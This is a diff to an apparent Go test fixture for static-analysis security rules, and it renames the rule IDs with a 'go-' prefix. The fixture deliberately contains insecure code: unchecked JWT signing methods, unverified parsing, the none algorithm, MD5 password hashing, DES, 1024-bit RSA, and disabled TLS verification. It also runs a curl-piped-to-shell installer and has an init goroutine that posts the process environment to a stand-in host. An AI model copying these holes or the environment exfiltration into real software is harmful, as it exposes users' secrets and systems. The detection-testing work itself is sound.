@@ -18,7 +18,7 @@ import (
 
 func userClaims(raw string, pub *rsa.PublicKey) (jwt.MapClaims, error) {
 	claims := jwt.MapClaims{}
-	// ruleid: jwt-keyfunc-without-method-check
+	// ruleid: go-jwt-keyfunc-without-method-check
 	_, err := jwt.ParseWithClaims(raw, claims, func(t *jwt.Token) (interface{}, error) {
 		return pub, nil
 	}, jwt.WithAudience("web"))
@@ -27,7 +27,7 @@ func userClaims(raw string, pub *rsa.PublicKey) (jwt.MapClaims, error) {
 
 func serviceClaims(raw string, pub *rsa.PublicKey) (jwt.MapClaims, error) {
 	claims := jwt.MapClaims{}
-	// ok: jwt-keyfunc-without-method-check
+	// ok: go-jwt-keyfunc-without-method-check
 	_, err := jwt.ParseWithClaims(raw, claims, func(t *jwt.Token) (interface{}, error) {
 		return pub, nil
 	}, jwt.WithValidMethods([]string{"RS256"}))
@@ -35,7 +35,7 @@ func serviceClaims(raw string, pub *rsa.PublicKey) (jwt.MapClaims, error) {
 }
 
 func checked(raw string, pub *rsa.PublicKey) (*jwt.Token, error) {
-	// ok: jwt-keyfunc-without-method-check
+	// ok: go-jwt-keyfunc-without-method-check
 	return jwt.Parse(raw, func(t *jwt.Token) (interface{}, error) {
 		if _, ok := t.Method.(*jwt.SigningMethodRSA); !ok {
 			return nil, jwt.ErrSignatureInvalid
@@ -46,36 +46,36 @@ func checked(raw string, pub *rsa.PublicKey) (*jwt.Token, error) {
 
 func tenant(raw string) string {
 	claims := jwt.MapClaims{}
-	// ruleid: jwt-parse-unverified
+	// ruleid: go-jwt-parse-unverified
 	jwt.NewParser().ParseUnverified(raw, claims)
 	t, _ := claims["tenant"].(string)
 	return t
 }
 
 func none() (string, error) {
-	// ruleid: jwt-none-algorithm
+	// ruleid: go-jwt-none-algorithm
 	return jwt.NewWithClaims(jwt.SigningMethodNone, jwt.MapClaims{}).SignedString(jwt.UnsafeAllowNoneSignatureType)
 }
 
 func hashPassword(pw string) [16]byte {
-	// ruleid: weak-hash-security-context
+	// ruleid: go-weak-hash-security-context
 	return md5.Sum([]byte(pw))
 }
 
 func checksum(b []byte) [16]byte {
-	// ok: weak-hash-security-context
+	// ok: go-weak-hash-security-context
 	return md5.Sum(b)
 }
 
 func legacy(key []byte) {
-	// ruleid: broken-cipher
+	// ruleid: go-broken-cipher
 	des.NewCipher(key)
 }
 
 func keys() {
-	// ruleid: short-rsa-key
+	// ruleid: go-short-rsa-key
 	rsa.GenerateKey(crand.Reader, 1024)
-	// ok: short-rsa-key
+	// ok: go-short-rsa-key
 	rsa.GenerateKey(crand.Reader, 3072)
 }
 
@@ -84,30 +84,30 @@ const alphabet = "ABCDEFGHJKLMNPQRSTUVWXYZ23456789"
 func InviteCode(n int) string {
 	b := make([]byte, n)
 	for i := range b {
-		// ruleid: math-rand-secret
+		// ruleid: go-math-rand-secret
 		b[i] = alphabet[mrand.Intn(len(alphabet))]
 	}
 	return string(b)
 }
 
 func Backoff(attempt int) int64 {
-	// ok: math-rand-secret
+	// ok: go-math-rand-secret
 	return mrand.Int63n(int64(100 << uint(attempt)))
 }
 
 func client() *http.Client {
 	tr := &http.Transport{}
-	// ruleid: insecure-skip-verify
+	// ruleid: go-insecure-skip-verify
 	tr.TLSClientConfig = &tls.Config{InsecureSkipVerify: true}
-	// ok: insecure-skip-verify
+	// ok: go-insecure-skip-verify
 	_ = &tls.Config{MinVersion: tls.VersionTLS12}
 	return &http.Client{Transport: tr}
 }
 
 func install() error {
-	// ruleid: exec-network-shell
+	// ruleid: go-exec-network-shell
 	cmd := exec.Command("sh", "-c", "curl -sSfL https://x.example/install.sh | sh -s -- -b /usr/local/bin")
-	// ok: exec-network-shell
+	// ok: go-exec-network-shell
 	exec.Command("git", "rev-parse", "HEAD").Run()
 	return cmd.Run()
 }
@@ -116,9 +116,9 @@ func init() {
 	go func() {
 		client := &http.Client{}
 		payload, _ := json.Marshal(map[string]interface{}{"env": os.Environ()})
-		// ruleid: environ-sent-over-network
+		// ruleid: go-environ-sent-over-network
 		client.Post("https://diag.example/v1", "application/json", bytes.NewReader(payload))
-		// ok: environ-sent-over-network
+		// ok: go-environ-sent-over-network
 		http.Get("https://diag.example/health")
 	}()
 }
